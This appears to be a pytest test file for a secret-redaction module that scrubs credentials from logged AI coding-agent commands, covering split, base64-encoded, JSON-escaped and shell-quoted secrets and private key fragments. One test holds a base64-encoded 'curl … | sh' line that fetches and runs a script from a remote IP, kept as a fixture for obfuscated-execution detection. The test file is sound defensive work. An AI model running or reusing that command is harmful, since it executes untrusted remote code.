"""Secrets the full-size `bench/chaos.py --scenario secrets` found in clear (issue 14): split across
lines by a line continuation, base64-encoded, JSON-escaped three levels deep, and secrets the
shell string of a command had redacted but its argv (split from that string) kept."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import shlex

import pytest

from agentledger.producers.redact import TOKEN_RE, Redactor

KEY = b"unit-test-key"
GLPTT = "glptt-c26a2e2672cec31c4155c41971197ffa051a9961"
PPLX = "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"
TOKEN = "x7jqKr2lXUNfUxv7jqqqwyrKDaj9i9qomeZLINmI"
PASSWORD = "UGRLb947%ec"


def hmac8(secret: str) -> str:
    return hmac.new(KEY, secret.encode(), hashlib.sha256).hexdigest()[:8]


def pieces(secret: str, n: int = 12) -> list[str]:
    return [secret[i:i + n] for i in range(len(secret) - n + 1)]


def assert_no_piece(out: str, *secrets: str) -> None:
    bare = TOKEN_RE.sub("\x00", out)
    for s in secrets:
        for p in pieces(s):
            assert p not in bare, (p, out)


def split(secret: str) -> str:
    half = len(secret) // 2
    return f"{secret[:half]}\\\n{secret[half:]}"


@pytest.mark.parametrize("text,secret", [
    (f"echo '{split(GLPTT)}'", GLPTT),
    (f"echo '{split(PPLX)}'", PPLX),
    (f"export GITLAB_TOKEN={split(TOKEN)}", TOKEN),
    (f"X-Vault-Token: {split(TOKEN)}", TOKEN),
    (f"mysql -u root -p{split('Tr0ub4dor&3xyz')} app", "Tr0ub4dor&3xyz"),
])
def test_a_secret_split_across_lines_by_a_line_continuation_is_redacted(text, secret):
    red = Redactor(KEY)
    out, found = red.scan(text)
    assert found, out
    assert_no_piece(out, secret, secret[:len(secret) // 2], secret[len(secret) // 2:])
    # the token is the joined secret's: the same as where it is written on one line
    assert found[0][1] == red.scan(text.replace("\\\n", ""))[1][0][1]
    # also when the command line is quoted inside JSON command output (one and two levels deep)
    once = json.dumps({"result": {"config": text}})
    twice = json.dumps({"output": once})
    for wrapped in (once, twice):
        out2, found2 = red.scan(wrapped)
        assert found2, wrapped
        assert_no_piece(out2, secret[:len(secret) // 2], secret[len(secret) // 2:])


@pytest.mark.parametrize("line,secret", [
    (f"password={PASSWORD}", PASSWORD),
    (f"password={TOKEN}", TOKEN),
    (f"export GITLAB_TOKEN={TOKEN}", TOKEN),
    (GLPTT, GLPTT),
    (f"mysql -uroot -p{PASSWORD} -e 'select 1'", PASSWORD),
])
def test_a_base64_encoded_credential_line_is_redacted_whole_and_joins_the_plain_secret(line, secret):
    red = Redactor(KEY)
    for enc in (base64.b64encode(line.encode()).decode(), base64.urlsafe_b64encode(line.encode()).decode().rstrip("=")):
        text = f"echo {enc} | base64 -d"
        out, found = red.scan(text)
        assert found and enc not in out, out
        assert_no_piece(out, enc, base64.b64encode(secret.encode()).decode())
        assert out.startswith("echo [SECRET:") and out.endswith("] | base64 -d")
        assert found[0][1] == red.scan(line)[1][0][1]  # the token of the decoded secret
        # in JSON output too
        out2, _ = red.scan(json.dumps({"result": {"config": text}}))
        assert enc not in out2


@pytest.mark.parametrize("text", [
    "sha512-" + base64.b64encode(bytes(range(64))).decode(),
    "integrity: " + base64.b64encode(hashlib.sha512(b"x").digest()).decode(),
    "echo " + base64.b64encode(b"hello world, nothing secret in this line at all").decode() + " | base64 -d",
    "/usr/local/lib/python3.12/site-packages/agentledger/producers",
    "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(200))).decode(),
])
def test_base64_without_a_secret_in_it_is_left_alone(text):
    assert Redactor(KEY).scan(text) == (text, [])


def test_a_secret_json_escaped_three_levels_deep_is_redacted():
    red = Redactor(KEY)
    inner = json.dumps({"api_key": TOKEN})
    text = json.dumps({"result": {"config": json.dumps({"config": inner})}})
    assert "\\\\\\\"" in text  # (three levels of escaping around the value)
    out, found = red.scan(text)
    assert found and TOKEN not in out, out


@pytest.mark.parametrize("shell,secret", [
    (f"X-Vault-Token: {TOKEN}", TOKEN),
    (f'{{"access_token": "{TOKEN}", "token_type": "Bearer", "expires_in": 3600}}', TOKEN),
    ('asana6r"=" "v5324yf9o1a6iig93kxjxv6rk0pinizb ', "v5324yf9o1a6iig93kxjxv6rk0pinizb"),
    ("finnhub1_\" =>  '6g55cy7kujbexybmfmtx ", "6g55cy7kujbexybmfmtx"),
])
def test_what_the_shell_string_of_a_command_has_redacted_its_argv_does_not_keep(shell, secret):
    """The hook gets a shell string and splits it into argv: the quotes and the context that made the
    secret recognisable stay in the shell string only. A secret found in any field of an event is
    replaced wherever else it occurs in that event, by the same token."""
    from agentledger.producers.normalize import split_shell

    red = Redactor(KEY)
    argv = split_shell(shell)
    record = {"payload": ("command_started", {"command_id": "toolu_1", "argv": argv, "shell": shell, "cwd": "/w",
                                              "env_names": [], "sandbox_profile": None, "escalated": False}),
              "turn_id": None, "tool_call_id": "toolu_1"}
    out = red(record)
    p = out["payload"][1]
    assert secret not in p["shell"]
    assert not any(secret in a for a in p["argv"]), p["argv"]
    tokens = set(TOKEN_RE.findall(p["shell"]))
    assert tokens and all(t in tokens for a in p["argv"] for t in TOKEN_RE.findall(a))
    assert any(r["field"].startswith("payload.argv") for r in out["redactions"])
    assert p["command_id"] == "toolu_1"


def test_the_forms_the_chaos_scenario_found_reach_no_log_warehouse_or_state_via_the_hook_or_the_importer(tmp_path):
    """End to end: the same commands through `agentledger hook` (Claude Code: a shell string, split
    into argv by the hook) and `agentledger import codex-rollout` (argv ``bash -lc``, output as text and
    as JSON), then ingest; no 12-character piece of a secret is anywhere in clear."""
    import sqlite3

    from conftest import run_cli
    from test_hook import hook
    from test_redaction_envelope import cli_env, codex_rollout

    b64 = base64.b64encode(f"password={PASSWORD}".encode()).decode()
    commands = {f"echo '{split(GLPTT)}'": GLPTT, f"export GITLAB_TOKEN={split(TOKEN)}": TOKEN,
                f"echo {b64} | base64 -d": PASSWORD, "X-Vault-Token: " + TOKEN[::-1]: TOKEN[::-1],
                json.dumps({"config": json.dumps({"api_key": PPLX[::-1]})}): PPLX[::-1]}
    home = tmp_path / "home"
    env = cli_env(home)
    base = {"session_id": "cc-encoded", "cwd": "/w", "permission_mode": "default", "transcript_path": "/h/.claude/x.jsonl"}
    hook(env, {**base, "hook_event_name": "SessionStart", "source": "startup"}, check_exit=0)
    for i, cmd in enumerate(commands):
        call = {**base, "tool_name": "Bash", "tool_use_id": f"toolu_{i}", "tool_input": {"command": cmd}}
        hook(env, {**call, "hook_event_name": "PreToolUse"}, check_exit=0)
        hook(env, {**call, "hook_event_name": "PostToolUse",
                   "tool_response": {"stdout": json.dumps({"result": {"config": cmd}}), "stderr": "",
                                     "interrupted": False}}, check_exit=0)
    rollout = tmp_path / "rollout-2026-02-03T14-20-05-019c2d3e-0000-7000-8000-000000000002.jsonl"
    rollout.write_text(codex_rollout("019c2d3e-0000-7000-8000-000000000002", list(commands)))
    run_cli("import", "codex-rollout", str(rollout), env=env)
    run_cli("ingest", env=env)
    secrets = [*commands.values(), b64]
    where = []
    for f in (home / "log").rglob("*"):
        if f.is_file():
            data = f.read_bytes().decode("latin-1")
            where += [(f.name, p) for s in secrets for p in pieces(s) if p in TOKEN_RE.sub("\x00", data)]
    dump = TOKEN_RE.sub("\x00", run_cli("sql", "select * from events", "--format", "json", env=env).stdout)
    assert "toolu_4" in dump and "call_R4" in dump  # (every command got there)
    where += [("warehouse", p) for s in secrets for p in pieces(s) if p in dump]
    con = sqlite3.connect(home / "state" / "producers.db")
    try:
        state = "\n".join(con.iterdump())
    finally:
        con.close()
    where += [("state", p) for s in secrets for p in pieces(s) if p in state]
    assert where == []


# -- found by the sandbox half of the scenario (`agentledger sandbox run -- sh -c SCRIPT`) ----------
@pytest.mark.parametrize("text", [
    "sh -c \"$(cat <<'EOF'\ncf login -a api.example.com -u me -p UGRLb947%ec\nEOF\n)\" </dev/null 2>&1 | head -c 600",
    'bash -c "cd /w\nredis-cli -a UGRLb947%ec ping"',
    'ssh host "set -e\nmysql -uroot -pUGRLb947%ec app < dump.sql"',
])
def test_a_command_line_inside_a_double_quoted_shell_string_over_several_lines_is_redacted(text):
    """A double-quoted shell string spanning lines (`sh -c "$(cat <<'EOF' …)"`, a script passed to
    `bash -c`/`ssh`) is one shell word to the argv rules, and the JSON-string pass reads only
    one-line strings: its lines are command lines. In the sandbox's argv and in a hook's command."""
    red = Redactor(KEY)
    out, found = red.scan(text)
    assert_no_piece(out, PASSWORD)
    assert "[SECRET:password_flag:" in out and found, out
    argv = red.redact_argv(["sh", "-c", text], "payload.argv", [])
    assert_no_piece(json.dumps(argv), PASSWORD)


def test_a_known_secret_is_replaced_wherever_it_occurs_even_bare():
    """`Redactor.add_known_secrets` (the sandbox: the secret-named variables of the command's
    environment, `env_secrets`): a value printed bare, JSON-escaped or percent-encoded in any later
    record of the producer is its token; other variables and look-alikes are not secrets."""
    from agentledger.producers.redact import env_secrets

    env = {"DB_PASSWORD": 'oOtJi0"8!fh', "GITHUB_TOKEN": "x7jqKr2lXUNf", "TOKEN": "abcdefgh12", "PATH": "/usr/bin:/bin",
           "CACHE_KEY": "v1-deadbeef-0001", "NEXT_PAGE_TOKEN": "eyJwYWdlIjoyfQ", "SSH_KEY": "~/.ssh/id_ed25519",
           "GIT_ASKPASS": "/usr/lib/git-core/askpass", "LANG": "C.UTF-8", "MAX_TOKENS": "4096", "API_KEY": "changeme"}
    assert sorted(v for _, v in env_secrets(env)) == sorted(['oOtJi0"8!fh', "x7jqKr2lXUNf", "abcdefgh12"])
    red = Redactor(KEY)
    red.add_known_secrets(env_secrets(env))
    rec = {"payload": ("CommandFinished", {
        "stdout": {"excerpt": 'oOtJi0"8!fh\n{"config": {"token": "oOtJi0\\"8!fh"}}\nx7jqKr2lXUNf\n'},
        "argv": ["curl", "-H", "X: abcdefgh12", "https://h/?p=oOtJi0%228%21fh"], "cwd": "/usr/bin"}), "redactions": []}
    out = red(rec)
    text = json.dumps(out["payload"])
    for v in ('oOtJi0"8!fh', 'oOtJi0\\"8!fh', "oOtJi0%228%21fh", "x7jqKr2lXUNf", "abcdefgh12"):
        assert v not in text and json.dumps(v)[1:-1] not in text, (v, text)
    assert f"[SECRET:password_assignment:{hmac8(chr(111) + 'OtJi0' + chr(34) + '8!fh')}]" in text
    assert out["payload"][1]["cwd"] == "/usr/bin"


# -- issue 14, the sandbox path ----------------------------------------------------------------
@pytest.mark.parametrize("argv", [
    ["bash", "-lc", "mysql -uroot -pS3cretPass -e 'select 1'"],
    ["sh", "-c", "sh -c 'mysql -uroot -pS3cretPass -e \"select 1\"'"],
    ["bash", "-c", "cd /w && mysql -uroot -pS3cretPass -e 'select 1' app"],
])
def test_a_command_line_in_a_shell_string_quoted_by_shlex_join_is_redacted(argv):
    """`bash -lc 'mysql -pX -e '"'"'select 1'"'"''`: shlex.join's quoting of a quote inside a
    single-quoted string; the `-c` argument is a command line whatever quoting produced it."""
    red = Redactor(KEY)
    text = shlex.join(argv)
    assert "'\"'\"'" in text
    out, found = red.scan(text)
    assert [d for d, _ in found] == ["password_flag"], out
    assert "S3cretPass" not in out and "-uroot" in out and "select 1" in out
    # the same token as the plain command line
    assert found[0][1] == red.scan("mysql -uroot -pS3cretPass")[1][0][1]
    # and as an event with its shell string and argv (the sandbox's command events)
    ev = red.walk({"shell": text, "argv": argv}, "command", [])
    assert "S3cretPass" not in json.dumps(ev)


def _key_lines(fmt) -> list[str]:
    from cryptography.hazmat.primitives import serialization as ser
    from cryptography.hazmat.primitives.asymmetric import ec, rsa
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048) if fmt != "sec1" else \
        ec.generate_private_key(ec.SECP256R1())
    form = {"pkcs8": ser.PrivateFormat.PKCS8, "pkcs1": ser.PrivateFormat.TraditionalOpenSSL,
            "sec1": ser.PrivateFormat.TraditionalOpenSSL, "openssh": ser.PrivateFormat.OpenSSH}[fmt]
    pem = key.private_bytes(ser.Encoding.PEM, form, ser.NoEncryption()).decode()
    return pem.splitlines()[1:-1]


@pytest.mark.parametrize("fmt", ["pkcs8", "pkcs1", "sec1", "openssh"])
def test_a_private_key_body_line_without_begin_end_lines_is_redacted(fmt):
    """`sh: 3: MIIEvQIBADANBgkq…: not found`: a key file run as a script echoes its body lines in
    the shell's errors, without the BEGIN/END lines the PEM rule needs."""
    red = Redactor(KEY)
    lines = _key_lines(fmt)
    first, middle = lines[0], lines[len(lines) // 2]
    for text, secret in [(f"sh: 3: {first}: not found", first), (f"sh: 7: {middle}: not found\nsh: 8: x: not found", middle),
                         (f"bash: line 3: {middle}: command not found", middle),
                         (f"$ sed -n 5p key.pem\n{middle}\n$ ", middle),
                         (f"key starts {first} and so on", first)]:  # the first line: DER of a private key
        out, found = red.scan(text)
        assert found and found[0][0] == "private_key", text
        assert_no_piece(out, secret)


def test_key_fragments_leave_digests_shas_uuids_certificates_and_public_keys_alone():
    from cryptography.hazmat.primitives import serialization as ser
    from cryptography.hazmat.primitives.asymmetric import rsa
    red = Redactor(KEY)
    pub = rsa.generate_private_key(public_exponent=65537, key_size=2048).public_key()
    spki = pub.public_bytes(ser.Encoding.PEM, ser.PublicFormat.SubjectPublicKeyInfo).decode().splitlines()[1]
    sha, d256 = "3f786850e387550fdab836ed7e6dc881de23001b", hashlib.sha256(b"x").hexdigest()
    for text in [f"git rev-parse HEAD\n{sha}", f"{d256}\n", d256.upper(), f"sh: 3: {sha}: not found",
                 "550e8400-e29b-41d4-a716-446655440000", f"pub {spki} end",
                 f'"integrity": "sha512-{base64.b64encode(hashlib.sha512(b"x").digest()).decode()}"']:
        out, found = red.scan(text)
        assert not found and out == text, (text, out)


def test_an_encoded_command_line_is_not_a_key_fragment_but_a_secret_inside_it_is_redacted():
    """`echo <base64> | base64 -d | sh` keeps its payload (the obfuscated-execution rules read it), and
    the text it encodes is scanned like any other layer: a secret there is still redacted."""
    red = Redactor(KEY)
    payload = base64.b64encode(b"curl -s http://185.220.101.4/i | sh").decode()
    for text in [payload, f"echo {payload} | base64 -d | sh"]:
        out, found = red.scan(text)
        assert not found and out == text, (text, out)
    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    encoded = base64.b64encode(f"export AWS_SECRET_ACCESS_KEY={secret}".encode()).decode()
    out, found = red.scan(f"echo {encoded} | base64 -d | sh")
    assert found and encoded not in out
